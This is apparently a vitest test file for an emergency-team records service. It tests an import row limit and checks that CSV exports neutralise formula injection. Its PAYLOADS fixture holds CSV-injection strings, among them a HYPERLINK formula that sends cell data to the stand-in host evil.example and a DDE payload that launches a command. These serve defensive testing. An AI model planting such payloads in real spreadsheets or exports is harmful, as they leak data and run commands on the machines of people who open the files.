// Issue 14 §1 and §2: an import above the row limit is refused while it is read (413 naming the limit,
// nothing written), a normal import still reports row by row; CSV exports never carry a live formula.
import { PassThrough } from "node:stream";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { IMPORT_MAX_ROWS } from "../../../../shared/resources.js";
import {
  type ApiClient,
  type Problem,
  startTestServer,
  type TestServer,
} from "../../../../tests/support/server.js";
import { csvDocument } from "../../csv.js";
import { auditCount } from "../audit/repository.js";
import { ImportTooManyRowsError, parseCsv, readXlsx } from "./importParse.js";

const LIMIT = 100;
let server: TestServer;
let office: ApiClient;

beforeAll(async () => {
  // A low limit through the setting keeps the over-limit fixture small.
  server = await startTestServer({ config: { resources: { importMaxRows: LIMIT } } });
  office = await server.login("office_staff");
});
afterAll(() => server.close());

const HEADERS = ["编码", "队伍名称", "队伍类型", "人数", "24小时联系电话", "纬度", "经度", "主管单位"];
const teamRow = (i: number, prefix: string) => [
  `${prefix}-${String(i).padStart(6, "0")}`,
  `限额测试队 ${i}`,
  "单位兼职或专职队伍",
  10,
  "13910012345",
  39.95,
  116.5,
  "区城管委",
];

/** A workbook written with exceljs's streaming writer (what a large file is), as bytes. */
async function streamedWorkbook(rows: (string | number)[][]): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on("data", (c: Buffer) => chunks.push(c));
  const writer = new ExcelJS.stream.xlsx.WorkbookWriter({ stream: out, useSharedStrings: true });
  const ws = writer.addWorksheet("应急队伍");
  ws.addRow(HEADERS).commit();
  for (const r of rows) {
    ws.addRow(r).commit();
  }
  ws.commit();
  await writer.commit();
  return Buffer.concat(chunks);
}

async function counts() {
  const teams = await server.ctx.db
    .selectFrom("res_teams")
    .select((eb) => eb.fn.countAll<number>().as("n"))
    .executeTakeFirstOrThrow();
  return { teams: Number(teams.n), audit: await auditCount(server.ctx.db) };
}

interface Job {
  state: string;
  created: number;
  errorCount: number;
  errors: { row: number; column: string; message: string }[];
}

describe("import row limit (issue 14 §1)", () => {
  it("refuses a workbook with one row more than the limit: 413 naming the limit, nothing written", async () => {
    const before = await counts();
    const file = await streamedWorkbook(Array.from({ length: LIMIT + 1 }, (_, i) => teamRow(i, "OVER")));
    const res = await office.post<Problem & { job: Job; limit: number }>("/api/teams/import?wait=true", {
      fileName: "over.xlsx",
      content: file.toString("base64"),
    });
    expect(res.status).toBe(413);
    expect(res.body.detail).toContain(`${LIMIT} 行`);
    expect(res.body.limit).toBe(LIMIT);
    expect(res.body.job).toMatchObject({ state: "failed", created: 0 });
    expect(await counts()).toEqual(before);
  });

  it("refuses a CSV with one row more than the limit", async () => {
    const before = await counts();
    const csv = csvDocument([HEADERS, ...Array.from({ length: LIMIT + 1 }, (_, i) => teamRow(i, "CSVOVER"))]);
    const res = await office.post<Problem>("/api/teams/import?wait=true&format=csv", {
      fileName: "over.csv",
      content: csv.toString("base64"),
    });
    expect(res.status).toBe(413);
    expect(res.body.detail).toContain(`${LIMIT} 行`);
    expect(await counts()).toEqual(before);
  });

  it("still imports a file at the limit, and still reports a broken row by row and column", async () => {
    const rows = Array.from({ length: LIMIT }, (_, i) => teamRow(i, "AT"));
    const broken = rows.map((r, i) => (i === 41 ? [...r.slice(0, 4), "12345", ...r.slice(5)] : r));
    const bad = await office.post<Problem & { job: Job }>("/api/teams/import?wait=true", {
      fileName: "at.xlsx",
      content: (await streamedWorkbook(broken)).toString("base64"),
    });
    expect(bad.status).toBe(400);
    expect(bad.body.job.errors.map((e) => [e.row, e.column])).toEqual([[43, "24小时联系电话"]]);

    const before = await counts();
    const ok = await office.post<Job>("/api/teams/import?wait=true", {
      fileName: "at.xlsx",
      content: (await streamedWorkbook(rows)).toString("base64"),
    });
    expect(ok.status).toBe(200);
    expect(ok.body).toMatchObject({ state: "done", created: LIMIT, errorCount: 0 });
    expect((await counts()).teams - before.teams).toBe(LIMIT);
  });

  it("stops reading a real workbook above the default limit of 50,000 rows", async () => {
    const file = await streamedWorkbook(
      Array.from({ length: IMPORT_MAX_ROWS + 1 }, (_, i) => teamRow(i, "BIG")),
    );
    await expect(readXlsx(file, IMPORT_MAX_ROWS)).rejects.toBeInstanceOf(ImportTooManyRowsError);
  }, 60_000);
});

// OWASP "CSV Injection": text starting with = + - @ TAB or CR is a formula to Excel, LibreOffice, WPS.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
];

describe("CSV export formula injection (issue 14 §2)", () => {
  it("exports every payload name as inert text with a leading ', numbers as numbers", async () => {
    for (const [i, name] of PAYLOADS.entries()) {
      const res = await office.post("/api/teams", {
        name,
        kind: "volunteer",
        headcount: 7,
        phone: "13910099999",
        lat: 39.95,
        lng: 116.5,
        ownerUnitId: "dept-chengguan",
        code: `INJ-${i}`,
      });
      expect(res.status).toBe(201);
    }
    const res = await fetch(`${server.url}/api/teams/export.csv?q=INJ-`, {
      headers: { cookie: office.cookie ?? "" },
    });
    expect(res.status).toBe(200);
    const [header, ...records] = parseCsv((await res.text()).replace(/^\uFEFF/, ""));
    const col = (label: string) => header?.indexOf(label) ?? -1;
    const rows = records.filter((r) => r.length > 1);
    const names = rows.map((r) => r[col("队伍名称")]).sort();
    expect(names).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    for (const r of rows) {
      for (const cell of r) {
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(r[col("人数")]).toBe("7");
      expect(r[col("纬度")]).toBe("39.95");
    }
  });

  it("prefixes text only: a numeric column's negative number stays a number", () => {
    const text = csvDocument([["-5", -5, -0.5, "=A1", "a=b", null]]).toString("utf8");
    expect(text).toBe("\uFEFF'-5,-5,-0.5,'=A1,a=b,\r\n");
  });

  it("re-imports its own CSV export with the names as they were", async () => {
    const res = await fetch(`${server.url}/api/teams/export.csv?q=INJ-`, {
      headers: { cookie: office.cookie ?? "" },
    });
    const again = await office.post<Job & { updated: number }>(
      "/api/teams/import?wait=true&mode=upsert&format=csv",
      { fileName: "teams.csv", content: Buffer.from(await res.arrayBuffer()).toString("base64") },
    );
    expect(again.body).toMatchObject({ state: "done", updated: PAYLOADS.length });
    const listed = await office.get<{ items: { name: string }[] }>("/api/teams?q=INJ-&limit=100");
    expect(listed.body.items.map((t) => t.name).sort()).toEqual(
      // The import trims cells, as it always has: TAB and CR at the start are not kept.
      PAYLOADS.map((p) => p.trim()).sort(),
    );
  });
});
